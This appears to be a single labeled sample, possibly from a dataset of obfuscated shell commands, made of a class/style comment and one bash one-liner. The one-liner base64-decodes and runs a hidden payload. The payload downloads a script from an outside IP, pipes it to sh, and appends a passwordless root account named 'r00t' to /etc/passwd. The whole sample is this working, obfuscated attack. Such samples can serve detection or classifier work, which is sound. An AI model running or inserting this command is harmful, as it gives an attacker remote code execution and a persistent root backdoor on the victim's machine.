# class: embedded, base64 decoded text; style: one-liner
echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoOyBlY2hvICdyMDB0OjowOjA6Oi86L2Jpbi9zaCcgPj4gL2V0Yy9wYXNzd2QK" | base64 -d | bash
